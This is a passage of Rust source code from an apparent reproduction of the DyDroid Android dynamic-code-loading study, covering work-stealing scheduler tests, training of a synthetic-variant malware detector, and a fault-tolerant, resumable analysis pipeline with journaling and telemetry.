        scheduler.seed(0, 10, Lane::Retry);
        scheduler.seed(0, 11, Lane::Retry);
        scheduler.seed(0, 1, Lane::New);
        scheduler.seed(0, 2, Lane::New);
        // Steal-half takes 2 of 4: both new-lane tasks move first.
        assert_eq!(scheduler.next_task(1), Some(1));
        assert_eq!(scheduler.next_task(1), Some(2));
        // Worker 0 keeps its retry backlog.
        assert_eq!(scheduler.next_task(0), Some(10));
        assert_eq!(scheduler.next_task(0), Some(11));
    }

    #[test]
    fn concurrent_workers_partition_the_tasks() {
        let scheduler = Scheduler::new(4);
        let total = 1000usize;
        for task in 0..total {
            // Skewed seeding: everything lands on worker 0, so progress
            // requires stealing.
            scheduler.seed(0, task, Lane::New);
        }
        let executed: Mutex<Vec<usize>> = Mutex::new(Vec::new());
        std::thread::scope(|scope| {
            for worker in 0..4 {
                let scheduler = &scheduler;
                let executed = &executed;
                scope.spawn(move || {
                    while let Some(task) = scheduler.next_task(worker) {
                        scheduler.note_executed(worker, 1, 10);
                        executed.lock().unwrap().push(task);
                    }
                });
            }
        });
        let mut done = executed.into_inner().unwrap();
        done.sort_unstable();
        done.dedup();
        assert_eq!(done.len(), total, "every task ran exactly once");
        let stats = scheduler.worker_stats();
        assert_eq!(stats.iter().map(|s| s.executed).sum::<u64>(), total as u64);
        assert_eq!(
            stats.iter().map(|s| s.virtual_us).sum::<u64>(),
            total as u64 * 10
        );
        assert!(virtual_makespan_us(&stats) >= total as u64 * 10 / 4);
    }

    #[test]
    fn idle_and_balance_diagnostics() {
        // Short sweep: an idle worker is expected, not a stall.
        let short = vec![
            WorkerStats {
                executed: 2,
                ..Default::default()
            },
            WorkerStats::default(),
        ];
        assert_eq!(idle_workers(&short), 0);
        // Enough work for everyone, one worker did none: flagged.
        let starved = vec![
            WorkerStats {
                executed: 8,
                virtual_us: 800,
                ..Default::default()
            },
            WorkerStats::default(),
        ];
        assert_eq!(idle_workers(&starved), 1);
        assert!((parallel_balance(&starved) - 0.5).abs() < 1e-9);
        let balanced = vec![
            WorkerStats {
                executed: 4,
                virtual_us: 400,
                ..Default::default()
            },
            WorkerStats {
                executed: 4,
                virtual_us: 400,
                ..Default::default()
            },
        ];
        assert_eq!(idle_workers(&balanced), 0);
        assert!((parallel_balance(&balanced) - 1.0).abs() < 1e-9);
        assert!((parallel_balance(&[]) - 1.0).abs() < 1e-9);
    }

    #[test]
    fn makespan_is_the_largest_worker_sum() {
        let stats = vec![
            WorkerStats {
                virtual_us: 40,
                ..Default::default()
            },
            WorkerStats {
                virtual_us: 90,
                ..Default::default()
            },
        ];
        assert_eq!(virtual_makespan_us(&stats), 90);
        assert_eq!(virtual_makespan_us(&[]), 0);
    }
}
