//! Reference malware training set.
//!
//! The paper trains DroidNative on 1,240 apps from 19 families collected
//! from the Malware Genome Project and Contagio. Our stand-in trains the
//! three families the measurement actually detects, using payload variants
//! generated *independently* of the corpus (different variant ids), so
//! detection is genuine variant matching, not byte identity.

use dydroid_analysis::mail::CodeBinary;
use dydroid_analysis::MalwareDetector;
use dydroid_workload::plan::MalwareFamily;

use crate::telemetry::Telemetry;

/// Variant ids reserved for training (the corpus derives its variants
/// from package-name hashes modulo 1,000, so these never collide).
const TRAINING_VARIANTS: [usize; 3] = [100_001, 100_002, 100_003];

/// [`reference_detector`] under a "train" telemetry span, so pipeline
/// construction shows up in the trace timeline.
pub fn reference_detector_traced(threshold: f64, telemetry: &Telemetry) -> MalwareDetector {
    let mut span = telemetry.span("train");
    let detector = reference_detector(threshold);
    span.field("samples", detector.sample_count());
    detector
}

/// Builds a detector trained on reference samples of the three families.
pub fn reference_detector(threshold: f64) -> MalwareDetector {
    let mut detector = MalwareDetector::with_threshold(threshold);

    let swiss: Vec<CodeBinary> = TRAINING_VARIANTS
        .iter()
        .map(|&v| CodeBinary::Dex(dydroid_workload::emit::swiss_payload(v).0))
        .collect();
    detector.train(MalwareFamily::SwissCodeMonkeys.name(), &swiss);

    let airpush: Vec<CodeBinary> = TRAINING_VARIANTS
        .iter()
        .map(|&v| CodeBinary::Dex(dydroid_workload::emit::airpush_payload(v).0))
        .collect();
    detector.train(MalwareFamily::AirpushMinimob.name(), &airpush);

    let chathook: Vec<CodeBinary> = TRAINING_VARIANTS
        .iter()
        .map(|&v| CodeBinary::Native(dydroid_workload::emit::chathook_payload("libref.so", v)))
        .collect();
    detector.train(MalwareFamily::ChathookPtrace.name(), &chathook);

    detector
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detector_catches_unseen_variants() {
        let detector = reference_detector(0.9);
        assert_eq!(detector.sample_count(), 9);
        // Corpus-side variants use small ids — unseen during training.
        let (dex, _) = dydroid_workload::emit::swiss_payload(7);
        let m = detector
            .detect(&CodeBinary::Dex(dex))
            .expect("swiss variant");
        assert_eq!(m.family, "swiss_code_monkeys");
        let lib = dydroid_workload::emit::chathook_payload("libx.so", 42);
        let m = detector
            .detect(&CodeBinary::Native(lib))
            .expect("chathook variant");
        assert_eq!(m.family, "chathook_ptrace");
    }

    #[test]
    fn reference_detector_survives_serialization() {
        // The inverted block index is derived state: it is excluded from
        // the serialized form and rebuilt on deserialize, so a reloaded
        // detector must reproduce the original verdicts exactly.
        let detector = reference_detector(0.9);
        let json = serde_json::to_string(&detector).expect("serialize");
        let reloaded: MalwareDetector = serde_json::from_str(&json).expect("deserialize");
        assert_eq!(reloaded.sample_count(), detector.sample_count());
        assert!(!reloaded.is_naive());
        let (dex, _) = dydroid_workload::emit::swiss_payload(7);
        let probe = CodeBinary::Dex(dex);
        let before = detector.detect(&probe).expect("swiss variant");
        let after = reloaded.detect(&probe).expect("swiss variant after reload");
        assert_eq!(after.family, before.family);
        assert_eq!(after.score.to_bits(), before.score.to_bits());
        let benign = dydroid_workload::emit::trivial_native("libengine.so");
        assert!(reloaded.detect(&CodeBinary::Native(benign)).is_none());
    }

    #[test]
    fn detector_passes_benign_payloads() {
        let detector = reference_detector(0.9);
        let ad = dydroid_workload::emit::ad_payload("com.google.ads.dynamic.AdContent");
        assert!(detector.detect(&CodeBinary::Dex(ad)).is_none());
        let lib = dydroid_workload::emit::trivial_native("libengine.so");
        assert!(detector.detect(&CodeBinary::Native(lib)).is_none());
        let privacy =
            dydroid_workload::emit::privacy_payload("com.sdk.C", &[0, 1, 2, 3, 4, 5, 6, 7]);
        assert!(detector.detect(&CodeBinary::Dex(privacy)).is_none());
    }
}
