//! # dydroid
//!
//! The DyDroid system: a hybrid dynamic + static analysis pipeline that
//! measures dynamic code loading (DCL) and its security implications
//! across an Android app corpus, reproducing Qu et al., *DyDroid* (DSN
//! 2017) on the simulated substrate provided by the sibling crates.
//!
//! The pipeline per app (Figure 1 of the paper):
//!
//! 1. decompile the APK to smali IR ([`dydroid_analysis::decompiler`]),
//!    recording anti-decompilation failures;
//! 2. statically filter for DCL-related code ([`dydroid_analysis::filter`])
//!    and run the obfuscation detectors;
//! 3. rewrite/repack if the external-storage permission is missing;
//! 4. exercise the app on the instrumented device under the Monkey
//!    ([`dydroid_monkey`]), collecting DCL events, intercepted binaries,
//!    download-tracker provenance and call-site entities;
//! 5. statically analyse the intercepted binaries: DroidNative-like
//!    malware detection and FlowDroid-like privacy-leak analysis —
//!    memoized per unique binary content by the corpus-wide
//!    [`cache::AnalysisCache`], so byte-identical SDK payloads loaded
//!    by thousands of apps are analysed once per sweep;
//! 6. classify code-injection vulnerabilities from the loaded paths;
//! 7. re-run malicious apps under the four runtime-environment
//!    configurations of Table VIII.
//!
//! [`MeasurementReport`] aggregates everything and regenerates every table
//! and figure of the paper's evaluation section.
//!
//! ## Example
//!
//! ```no_run
//! use dydroid::{Pipeline, PipelineConfig};
//! use dydroid_workload::{generate, CorpusSpec};
//!
//! let corpus = generate(&CorpusSpec { scale: 0.01, ..Default::default() });
//! let pipeline = Pipeline::new(PipelineConfig::default());
//! let report = pipeline.run(&corpus);
//! println!("{}", report.table2().render());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cache;
pub mod config;
pub mod durable;
pub mod environment;
pub mod pipeline;
pub mod profile;
pub mod provenance;
pub mod report;
pub mod scheduler;
pub mod sweep;
pub mod telemetry;
pub mod training;

/// Thin observability facade: the handful of telemetry types callers
/// (CLIs, benches, tests) interact with, re-exported in one place so
/// downstream code does not depend on `telemetry`'s module layout.
pub mod obs {
    pub use crate::profile::{ProfileEntry, SpanProfile, StragglerEntry, Watchdog};
    pub use crate::telemetry::{
        chrome_trace, EventShardGuard, Histogram, HistogramSummary, MetricsRegistry,
        MetricsSnapshot, Progress, SpanGuard, SpanRecord, Telemetry,
    };
}

pub use cache::{AnalysisCache, CacheStats};
pub use config::PipelineConfig;
pub use durable::{IoHarness, StreamKind, SyncPolicy};
pub use pipeline::{AppRecord, DynamicStatus, Pipeline, RecoveryOutcome};
pub use profile::{SpanProfile, StragglerEntry, Watchdog};
pub use provenance::{AppProvenance, ProvenanceIndex, ProvenanceLedger};
pub use report::{MeasurementReport, SweepStats};
pub use scheduler::{Lane, Scheduler, WorkerStats};
pub use sweep::Journal;
pub use telemetry::Telemetry;
