//! The per-app analysis pipeline and the parallel corpus sweep.
//!
//! The sweep is fault-tolerant: every app is analysed under
//! [`std::panic::catch_unwind`] with a per-app deadline and bounded
//! retries, so one hostile app can neither kill a worker nor stall the
//! corpus. See `DESIGN.md`, "Failure taxonomy & fault tolerance".

use std::borrow::Cow;
use std::collections::{BTreeSet, HashMap, HashSet};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, TryLockError};
use std::time::Instant;

use crossbeam::channel;
use dydroid_analysis::decompiler::{self, DecompileError};
use dydroid_analysis::entity::EntityMix;
use dydroid_analysis::obfuscation::{self, ObfuscationReport};
use dydroid_analysis::taint::{Leak, PrivacyType, TaintAnalysis};
use dydroid_analysis::{DclFilter, MalwareDetector, VulnKind};
use dydroid_avm::{DclEvent, Device, Owner};
use dydroid_monkey::{ExerciseOutcome, Monkey, MonkeyConfig};
use dydroid_workload::{AppMetadata, SyntheticApp};
use serde::{Deserialize, Serialize};

use crate::cache::{content_hash, AnalysisCache, BinaryVerdict, CacheStats};
use crate::config::PipelineConfig;
use crate::durable::{scan_path, FramedWriter, IoHarness, IoState, SinkOptions, StreamKind};
use crate::profile::{SpanProfile, StragglerEntry, Watchdog};
use crate::provenance::{AppProvenance, ProvenanceLedger};
use crate::report::{MeasurementReport, SweepStats};
use crate::scheduler::{idle_workers, virtual_makespan_us, Lane, Scheduler, WorkerStats};
use crate::sweep::QuarantineEntry;
use crate::telemetry::{HistogramSummary, MetricsSnapshot, Progress, Telemetry};
use crate::training;

/// Outcome category of the dynamic phase (Table II rows).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum DynamicStatus {
    /// Repackaging (permission injection) crashed.
    RewriteFailure,
    /// No launchable activity: the Monkey cannot drive the app.
    NoActivity,
    /// The app crashed at runtime.
    Crash,
    /// Successfully exercised.
    Exercised,
    /// The *harness* failed on this app — an analyzer panic, a blown
    /// per-app deadline, or a resource-sanity rejection — as opposed to
    /// the app itself failing. Table II reports these separately so
    /// harness bugs cannot masquerade as app behaviour.
    AnalysisFailure {
        /// Human-readable cause (panic message, deadline report, ...).
        reason: String,
    },
}

/// A malware detection hit on one intercepted file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MalwareHit {
    /// Path of the loaded file.
    pub path: String,
    /// Matched family.
    pub family: String,
    /// ACFG match score.
    pub score: f64,
    /// Whether the file was native code.
    pub native: bool,
}

/// A privacy type leaked by an app's loaded code, with entity attribution.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LeakSummary {
    /// The leaked type.
    pub privacy: PrivacyType,
    /// Whether every leaking class lives outside the app package.
    pub exclusively_third_party: bool,
}

/// Results of the dynamic phase for one app.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DynamicOutcome {
    /// Status category.
    pub status: DynamicStatus,
    /// Successful DEX DCL events.
    pub dex_events: Vec<DclEvent>,
    /// Successful native DCL events.
    pub native_events: Vec<DclEvent>,
    /// Remote-provenance loads: `(loaded path, source URLs)`.
    pub remote_loads: Vec<(String, Vec<String>)>,
    /// Entity mix of DEX loads.
    pub dex_entity: EntityMix,
    /// Entity mix of native loads.
    pub native_entity: EntityMix,
    /// Code-injection vulnerability classifications.
    pub vulns: Vec<VulnKind>,
    /// Malware detections over intercepted binaries.
    pub malware: Vec<MalwareHit>,
    /// Raw taint leaks from intercepted DEX code.
    pub leaks: Vec<Leak>,
    /// Per-type leak summary with entity exclusivity.
    pub leak_types: Vec<LeakSummary>,
}

impl DynamicOutcome {
    /// An outcome with the given status and no observations.
    pub fn empty(status: DynamicStatus) -> Self {
        DynamicOutcome {
            status,
            dex_events: Vec::new(),
            native_events: Vec::new(),
            remote_loads: Vec::new(),
            dex_entity: EntityMix::default(),
            native_entity: EntityMix::default(),
            vulns: Vec::new(),
            malware: Vec::new(),
            leaks: Vec::new(),
            leak_types: Vec::new(),
        }
    }

    /// A harness-failure outcome with the given reason.
    pub fn failure(reason: impl Into<String>) -> Self {
        DynamicOutcome::empty(DynamicStatus::AnalysisFailure {
            reason: reason.into(),
        })
    }
}

/// The full analysis record of one app.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AppRecord {
    /// Package name.
    pub package: String,
    /// Store metadata (popularity, category).
    pub metadata: AppMetadata,
    /// Whether decompilation succeeded.
    pub decompiled: bool,
    /// Static DCL filter result.
    pub filter: DclFilter,
    /// Obfuscation detector results.
    pub obfuscation: ObfuscationReport,
    /// Whether the app was rewritten (permission injection).
    pub rewritten: bool,
    /// Dynamic phase results; `None` when the app never entered it.
    pub dynamic: Option<DynamicOutcome>,
}

impl AppRecord {
    /// Whether DEX DCL was intercepted for this app.
    pub fn dex_intercepted(&self) -> bool {
        self.dynamic
            .as_ref()
            .map(|d| d.status == DynamicStatus::Exercised && !d.dex_events.is_empty())
            .unwrap_or(false)
    }

    /// Whether native DCL was intercepted for this app.
    pub fn native_intercepted(&self) -> bool {
        self.dynamic
            .as_ref()
            .map(|d| d.status == DynamicStatus::Exercised && !d.native_events.is_empty())
            .unwrap_or(false)
    }

    /// The harness-failure reason, if the harness (not the app) failed.
    pub fn harness_failure(&self) -> Option<&str> {
        match self.dynamic.as_ref().map(|d| &d.status) {
            Some(DynamicStatus::AnalysisFailure { reason }) => Some(reason),
            _ => None,
        }
    }
}

/// The DyDroid pipeline.
#[derive(Debug)]
pub struct Pipeline {
    config: PipelineConfig,
    detector: MalwareDetector,
    cache: AnalysisCache,
    telemetry: Telemetry,
    io_harness: Option<Arc<IoHarness>>,
}

impl Pipeline {
    /// Creates a pipeline, training the reference malware detector (the
    /// inverted block index is built once here, at train time).
    pub fn new(config: PipelineConfig) -> Self {
        let telemetry = Telemetry::new(config.telemetry);
        let mut detector =
            training::reference_detector_traced(config.malware_threshold, &telemetry);
        detector.set_naive(config.naive_detector);
        let cache = if config.analysis_cache {
            AnalysisCache::new(config.cache_shards)
        } else {
            AnalysisCache::disabled()
        }
        .with_telemetry(telemetry.clone());
        Pipeline {
            config,
            detector,
            cache,
            telemetry,
            io_harness: None,
        }
    }

    /// Attaches an I/O fault harness: every persistent-stream write of
    /// subsequent runs is routed through it, so crash-torture tests can
    /// kill the sweep at any write boundary on the deterministic virtual
    /// op clock (see [`crate::durable`]).
    pub fn set_io_harness(&mut self, harness: Arc<IoHarness>) {
        self.io_harness = Some(harness);
    }

    /// The active configuration.
    pub fn config(&self) -> &PipelineConfig {
        &self.config
    }

    /// Sink options for `stream`, threading the run's shared I/O state,
    /// the configured sync policy, and any attached fault harness.
    fn sink_options(&self, stream: StreamKind, state: &Arc<IoState>) -> SinkOptions {
        SinkOptions {
            stream,
            policy: self.config.sync_policy,
            state: Arc::clone(state),
            harness: self.io_harness.clone(),
        }
    }

    /// The pipeline's telemetry handle (a no-op handle when
    /// `PipelineConfig::telemetry` is off).
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    /// A point-in-time snapshot of every telemetry metric — counters,
    /// gauges, and per-phase latency histograms (empty when telemetry is
    /// disabled).
    pub fn metrics_snapshot(&self) -> MetricsSnapshot {
        self.telemetry.snapshot()
    }

    /// A snapshot of the analysis-cache counters (monotonic across runs
    /// of this pipeline; see [`CacheStats::since`] for per-run deltas).
    pub fn cache_stats(&self) -> CacheStats {
        self.cache.stats()
    }

    /// A snapshot of the signature-matcher counters (monotonic; see
    /// [`dydroid_analysis::DetectorStats::since`] for per-run deltas).
    pub fn detector_stats(&self) -> dydroid_analysis::DetectorStats {
        self.detector.stats()
    }

    /// Runs the full measurement over a corpus, in parallel, and returns
    /// the aggregated report. Per-app failures (panics, deadlines) are
    /// isolated into [`DynamicStatus::AnalysisFailure`] records; the
    /// sweep itself always completes.
    pub fn run(&self, corpus: &[SyntheticApp]) -> MeasurementReport {
        let cache_mark = self.cache.stats();
        let detector_mark = self.detector.stats();
        let avm_marks = self.avm_counter_marks();
        // Without a journal the ledger only materializes on disk when an
        // explicit path was configured; a fresh run starts it clean.
        let ledger = self.ledger_for(None);
        if let Some(ledger) = &ledger {
            if let Err(e) = ledger.reset() {
                eprintln!(
                    "dydroid: failed to reset ledger {}: {e}",
                    ledger.path().display()
                );
            }
        }
        let io_state = IoState::new(self.config.io_retry_budget);
        let ledger_writer = self.open_ledger_writer(ledger.as_ref(), &io_state);
        let observatory = Observatory::open(self, None, &io_state);
        let sweep_start = Instant::now();
        let indices: Vec<usize> = (0..corpus.len()).collect();
        let mut sweep_span = self.telemetry.span("sweep");
        sweep_span.field("apps", indices.len());
        let (results, worker_stats) = self.sweep(
            corpus,
            &indices,
            None,
            ledger_writer.as_ref(),
            None,
            &HashSet::new(),
            observatory.as_ref(),
            sweep_span.id(),
        );
        drop(sweep_span);
        drop(ledger_writer);
        if let Some(obs) = &observatory {
            obs.finish(self);
        }
        let sweep_ms = sweep_start.elapsed().as_millis() as u64;
        self.assemble(
            corpus,
            results,
            HashMap::new(),
            Vec::new(),
            ledger.as_ref(),
            None,
            &io_state,
            None,
            SweepPerf {
                worker_stats,
                stream_shards: 1,
                shard_contention: 0,
            },
            observatory,
            sweep_ms,
            cache_mark,
            detector_mark,
            avm_marks,
        )
    }

    /// The ledger backing this run's provenance records, if any: the
    /// configured `provenance_out` path wins, else the ledger sits
    /// beside the journal when one is in use.
    fn ledger_for(&self, journal: Option<&crate::sweep::Journal>) -> Option<ProvenanceLedger> {
        if !self.config.provenance {
            return None;
        }
        if let Some(path) = &self.config.provenance_out {
            return Some(ProvenanceLedger::new(path));
        }
        journal.map(|j| ProvenanceLedger::new(j.provenance_path()))
    }

    fn open_ledger_writer(
        &self,
        ledger: Option<&ProvenanceLedger>,
        io_state: &Arc<IoState>,
    ) -> Option<Mutex<crate::provenance::LedgerWriter>> {
        let ledger = ledger?;
        match ledger.writer_with(self.sink_options(StreamKind::Ledger, io_state)) {
            Ok(w) => Some(Mutex::new(w)),
            Err(e) => {
                eprintln!(
                    "dydroid: failed to open ledger {}: {e}",
                    ledger.path().display()
                );
                None
            }
        }
    }

    /// Marks of the monotonic avm counters (truncation + inline caches),
    /// for per-run deltas.
    fn avm_counter_marks(&self) -> AvmMarks {
        AvmMarks {
            events_dropped: self.telemetry.counter_value("avm.events_dropped"),
            flow_truncated: self.telemetry.counter_value("avm.flow_edges_truncated"),
            flow_deduped: self.telemetry.counter_value("avm.flow_edges_deduped"),
            ic_call_hits: self.telemetry.counter_value("avm.ic_call_hits"),
            ic_call_misses: self.telemetry.counter_value("avm.ic_call_misses"),
            ic_field_hits: self.telemetry.counter_value("avm.ic_field_hits"),
            ic_field_misses: self.telemetry.counter_value("avm.ic_field_misses"),
        }
    }

    /// Like [`Pipeline::run`], but streams every completed record to
    /// `journal` and skips corpus packages the journal already holds, so
    /// a killed sweep resumes where it left off.
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or appending the journal file;
    /// analysis failures never surface as errors.
    pub fn run_resumable(
        &self,
        corpus: &[SyntheticApp],
        journal: &crate::sweep::Journal,
    ) -> std::io::Result<MeasurementReport> {
        // Stitch spans from the previous session — base stream plus any
        // shard streams a killed multi-writer sweep left behind — before
        // recovery merges the shards away.
        if self.telemetry.is_enabled() {
            let mut event_paths = vec![journal.events_path()];
            event_paths.extend(
                journal
                    .discover_shards()
                    .unwrap_or_default()
                    .into_iter()
                    .map(|k| journal.shard_events_path(k)),
            );
            let mut stitched = 0usize;
            for path in &event_paths {
                match self.telemetry.stitch_from(path) {
                    Ok(n) => stitched += n,
                    Err(e) => {
                        eprintln!(
                            "dydroid: failed to stitch events from {}: {e}",
                            path.display()
                        )
                    }
                }
            }
            if stitched > 0 {
                self.telemetry
                    .counter_add("telemetry.spans_stitched", stitched as u64);
            }
        }
        let mut outcome = self.recover_all(journal)?;
        let recovered = outcome.records.len();
        let ledger = self.ledger_for(Some(journal));
        let io_state = IoState::new(self.config.io_retry_budget);
        if self.telemetry.is_enabled() {
            self.telemetry
                .counter_add("journal.recovered_records", recovered as u64);
            self.telemetry
                .counter_add("journal.dropped_lines", outcome.journal_dropped as u64);
            self.telemetry
                .counter_add("ledger.dropped_lines", outcome.ledger_dropped as u64);
            self.telemetry
                .counter_add("events.dropped_lines", outcome.events_dropped as u64);
            self.telemetry
                .counter_add("sweep.inconsistent_apps", outcome.inconsistent.len() as u64);
            self.telemetry
                .counter_add("sweep.quarantined_apps", outcome.quarantined.len() as u64);
            let events_path = journal.events_path();
            if let Err(e) = self.telemetry.set_event_sink_with(
                &events_path,
                self.sink_options(StreamKind::Events, &io_state),
            ) {
                eprintln!(
                    "dydroid: failed to open event sink {}: {e}",
                    events_path.display()
                );
            }
        }
        let mut done: HashMap<String, AppRecord> = std::mem::take(&mut outcome.records)
            .into_iter()
            .map(|r| (r.package.clone(), r))
            .collect();
        let prior_provenance = std::mem::take(&mut outcome.provenance);
        let writer =
            Mutex::new(journal.writer_with(self.sink_options(StreamKind::Journal, &io_state))?);
        let ledger_writer = self.open_ledger_writer(ledger.as_ref(), &io_state);
        // Apps that exhausted their interrupted-attempt budget are not
        // re-analysed: a deterministic failure record is persisted through
        // the normal journal/checkpoint/ledger path so all three streams
        // stay mutually consistent, then the app is excluded from the
        // pending set.
        for entry in &outcome.quarantine {
            if entry.attempts < self.config.quarantine_threshold
                || done.contains_key(entry.package.as_str())
            {
                continue;
            }
            let Some(app) = corpus.iter().find(|a| a.package() == entry.package) else {
                continue;
            };
            let record = self.failure_record(
                app,
                format!("quarantined after {} interrupted attempts", entry.attempts),
            );
            let append = writer
                .lock()
                .map_err(|p| std::io::Error::other(p.to_string()))
                .and_then(|mut w| w.append(&record));
            match append {
                Ok(()) => self.telemetry.emit_checkpoint(&record.package, 0),
                Err(e) => {
                    eprintln!("dydroid: journal append failed for {}: {e}", record.package)
                }
            }
            if let Some(ledger_writer) = &ledger_writer {
                let provenance = AppProvenance::from_record(&record);
                let append = ledger_writer
                    .lock()
                    .map_err(|p| std::io::Error::other(p.to_string()))
                    .and_then(|mut w| w.append(&provenance));
                match append {
                    Ok(()) => self.telemetry.emit_provenance_link(&record.package, 0),
                    Err(e) => {
                        eprintln!("dydroid: ledger append failed for {}: {e}", record.package)
                    }
                }
            }
            done.insert(record.package.clone(), record);
        }
        let pending: Vec<usize> = (0..corpus.len())
            .filter(|&i| !done.contains_key(corpus[i].package()))
            .collect();
        // Apps invalidated by recovery re-run in the low-priority retry
        // lane so a crash loop cannot starve first-pass coverage.
        let retry: HashSet<String> = outcome.inconsistent.iter().cloned().collect();
        // Multi-writer mode: with more than one shard resolved and real
        // work pending, every worker appends to its app's stream shard
        // and the collector only aggregates. A failure to open the
        // shards degrades to the single-writer collector path.
        let shard_count = self.config.resolved_stream_shards();
        let shards = if shard_count > 1 && pending.len() > 1 {
            match StreamShards::open(
                self,
                journal,
                ledger_writer.is_some(),
                shard_count,
                &io_state,
            ) {
                Ok(shards) => Some(shards),
                Err(e) => {
                    eprintln!(
                        "dydroid: failed to open stream shards: {e}; using single-writer path"
                    );
                    None
                }
            }
        } else {
            None
        };
        let cache_mark = self.cache.stats();
        let detector_mark = self.detector.stats();
        let avm_marks = self.avm_counter_marks();
        let observatory = Observatory::open(self, Some(journal), &io_state);
        let sweep_start = Instant::now();
        let mut sweep_span = self.telemetry.span("sweep");
        sweep_span.field("apps", pending.len());
        sweep_span.field("resumed", recovered);
        let (results, worker_stats) = self.sweep(
            corpus,
            &pending,
            if shards.is_none() {
                Some(&writer)
            } else {
                None
            },
            if shards.is_none() {
                ledger_writer.as_ref()
            } else {
                None
            },
            shards.as_ref(),
            &retry,
            observatory.as_ref(),
            sweep_span.id(),
        );
        drop(sweep_span);
        if let Some(obs) = &observatory {
            obs.finish(self);
        }
        let perf = SweepPerf {
            worker_stats,
            stream_shards: shards.as_ref().map_or(1, |s| s.shards.len()),
            shard_contention: shards.as_ref().map_or(0, StreamShards::contention),
        };
        // Close the shard writers before finalize merges and removes the
        // shard files (the telemetry shard sinks close inside
        // `finalize_event_sink`).
        drop(shards);
        drop(ledger_writer);
        let sweep_ms = sweep_start.elapsed().as_millis() as u64;
        let summary = RecoverySummary {
            recovered: recovered as u64,
            dropped: (outcome.journal_dropped + outcome.ledger_dropped + outcome.events_dropped)
                as u64,
            inconsistent: outcome.inconsistent.len() as u64,
            quarantined: outcome.quarantined,
        };
        Ok(self.assemble(
            corpus,
            results,
            done,
            prior_provenance,
            ledger.as_ref(),
            Some(journal),
            &io_state,
            Some(summary),
            perf,
            observatory,
            sweep_ms,
            cache_mark,
            detector_mark,
            avm_marks,
        ))
    }

    /// Reconciles the three persistent streams of an interrupted run —
    /// journal, provenance ledger, telemetry event stream — to their
    /// longest mutually consistent checkpoint prefix.
    ///
    /// Per stream, corrupt or torn frames are dropped (with a uniform
    /// stderr warning) and the file is rewritten to its valid prefix.
    /// An app then counts as recovered only when every active stream
    /// holds it: a journal record, a ledger graph (when provenance is
    /// on), and a `checkpoint` event (when telemetry wrote an event
    /// stream). Apps present in some but not all streams are re-analysed;
    /// each such interruption bumps the app's quarantine attempt count,
    /// and apps at or over [`PipelineConfig::quarantine_threshold`] are
    /// reported in [`RecoveryOutcome::quarantined`] and skipped by
    /// [`Pipeline::run_resumable`].
    ///
    /// # Errors
    ///
    /// Returns I/O errors from reading or rewriting the journal and its
    /// quarantine sidecar; ledger and event-stream read failures degrade
    /// to warnings (their records are simply not recovered).
    pub fn recover_all(&self, journal: &crate::sweep::Journal) -> std::io::Result<RecoveryOutcome> {
        // The base triplet and every shard triplet a killed multi-writer
        // sweep left behind are reconciled with the same per-segment
        // rule: longest mutually consistent prefix of that segment's
        // journal, ledger, and checkpoint stream.
        let base_ledger = self.ledger_for(Some(journal));
        let base = self.recover_segment(journal, base_ledger.as_ref(), &journal.events_path())?;
        let shard_ids = journal.discover_shards()?;
        let mut shard_segments = Vec::with_capacity(shard_ids.len());
        for &k in &shard_ids {
            let shard_journal = journal.shard(k);
            let shard_ledger = self
                .config
                .provenance
                .then(|| ProvenanceLedger::new(journal.shard_provenance_path(k)));
            shard_segments.push(self.recover_segment(
                &shard_journal,
                shard_ledger.as_ref(),
                &journal.shard_events_path(k),
            )?);
        }

        // Merge: base records first, then shards in ascending shard
        // order, first record per package wins. Duplicates only arise
        // from a crash between the base finalize and shard removal,
        // where both copies are identical.
        let base_record_count = base.records.len();
        let base_checkpoints = base.checkpoints.clone();
        let mut seen: HashSet<String> = HashSet::new();
        let mut consistent: Vec<AppRecord> = Vec::new();
        let mut provenance: Vec<AppProvenance> = Vec::new();
        let mut inconsistent: BTreeSet<String> = BTreeSet::new();
        let mut journal_dropped = 0usize;
        let mut ledger_dropped = 0usize;
        let mut events_dropped = 0usize;
        let mut base_journal_count = 0usize;
        let mut prov_by_pkg: HashMap<String, AppProvenance> = HashMap::new();
        for (idx, segment) in std::iter::once(base).chain(shard_segments).enumerate() {
            if idx == 0 {
                base_journal_count = segment.journal_count;
            }
            journal_dropped += segment.journal_dropped;
            ledger_dropped += segment.ledger_dropped;
            events_dropped += segment.events_dropped;
            inconsistent.extend(segment.inconsistent);
            for p in segment.provenance {
                prov_by_pkg.entry(p.package.clone()).or_insert(p);
            }
            for record in segment.records {
                if seen.insert(record.package.clone()) {
                    if let Some(p) = prov_by_pkg.remove(record.package.as_str()) {
                        provenance.push(p);
                    }
                    consistent.push(record);
                }
            }
        }
        drop(prov_by_pkg);
        // A package consistent in any segment is recovered; it is not
        // re-analysed even if another segment holds a torn copy of it.
        inconsistent.retain(|p| !seen.contains(p.as_str()));
        let shards_contributed = consistent.len() > base_record_count;

        // Rewrite the base journal and ledger to the merged consistent
        // set so this session's appends extend files that agree with
        // each other (and hold everything the shards contributed).
        if consistent.len() != base_journal_count || shards_contributed {
            journal.rewrite(&consistent)?;
        }
        if let Some(ledger) = &base_ledger {
            if !inconsistent.is_empty() || shards_contributed {
                if let Err(e) = ledger.rewrite(&provenance) {
                    eprintln!(
                        "dydroid: failed to rewrite ledger {}: {e}",
                        ledger.path().display()
                    );
                }
            }
        }
        // Shard-contributed records have their checkpoint events only in
        // the shard streams being merged away: append the missing
        // per-app facts to the base stream so a later recovery still
        // sees every merged record as checkpointed.
        if self.telemetry.is_enabled() {
            let known = base_checkpoints.unwrap_or_default();
            let missing: Vec<&AppRecord> = consistent
                .iter()
                .filter(|r| !known.contains(r.package.as_str()))
                .collect();
            if !missing.is_empty() {
                let events_path = journal.events_path();
                let append = FramedWriter::open(&events_path, {
                    let mut opts = SinkOptions::direct(StreamKind::Events);
                    opts.harness = self.io_harness.clone();
                    opts
                })
                .and_then(|mut w| {
